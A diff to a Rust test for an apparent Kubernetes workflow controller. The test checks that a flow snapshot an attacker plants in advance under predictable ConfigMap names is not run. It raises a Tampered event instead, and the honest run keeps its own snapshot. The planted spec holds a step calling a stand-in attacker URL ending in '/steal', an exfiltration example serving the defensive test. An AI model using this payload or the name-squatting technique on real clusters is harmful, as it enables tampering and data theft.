@@ -172,11 +172,14 @@ async fn a_flow_snapshot_made_in_advance_is_not_run() {
     s.apply(&flow_of(honest, "publish"));
     let digest = digest_of_flow(&s, "publish");
     // Mallory knows the next Run's name (a schedule's are predictable) and
-    // the Flow's digest; she makes the snapshot first, under both the old
-    // name and the digest-named one, holding a flow that calls her server.
+    // the Flow's digest; she makes the snapshot first, under the name runs
+    // of this flow share, the run's own digest-named one and the old name,
+    // holding a flow that calls her server.
     let evil_spec =
         json!({"steps": [{"key": "publish", "http": {"url": format!("http://{evil}/steal")}}]});
+    let shared = coxswain_k8s::names::shared_flow_snapshot(&digest);
     for name in [
+        shared.clone(),
         coxswain_k8s::names::flow_snapshot("nightly-1", &digest),
         coxswain_k8s::names::legacy_flow_snapshot("nightly-1"),
     ] {
@@ -202,9 +205,11 @@ async fn a_flow_snapshot_made_in_advance_is_not_run() {
         0,
         "her server was called"
     );
-    // Her ConfigMap is still there, as she made it.
-    let kept = s.get("configmap", &snapshot);
-    assert_eq!(kept["data"]["flow.json"], evil_spec.to_string());
+    // Her ConfigMaps are still there, as she made them.
+    for name in [&snapshot, &shared] {
+        let kept = s.get("configmap", name);
+        assert_eq!(kept["data"]["flow.json"], evil_spec.to_string());
+    }
     let warned = wait_for("a Tampered event on the run", BOUND, || async {
         let notes = s.tampered_events("nightly-1");
         Ok((!notes.is_empty()).then_some(notes))
@@ -213,8 +218,15 @@ async fn a_flow_snapshot_made_in_advance_is_not_run() {
     .expect("an event");
     assert!(warned[0].contains(&snapshot), "{warned:?}");
 
+    // The shared name she took holds nobody back: the honest run keeps a
+    // snapshot of its own, made by the controller.
     assert_eq!(honest_run["status"]["phase"], "Succeeded", "{honest_run:#}");
     assert_eq!(honest_calls.load(Ordering::SeqCst), 1);
+    let own = s.get(
+        "configmap",
+        &coxswain_k8s::names::flow_snapshot("nightly-2", &digest),
+    );
+    assert_eq!(own["metadata"]["ownerReferences"][0]["name"], "nightly-2");
 }
 
 #[tokio::test]
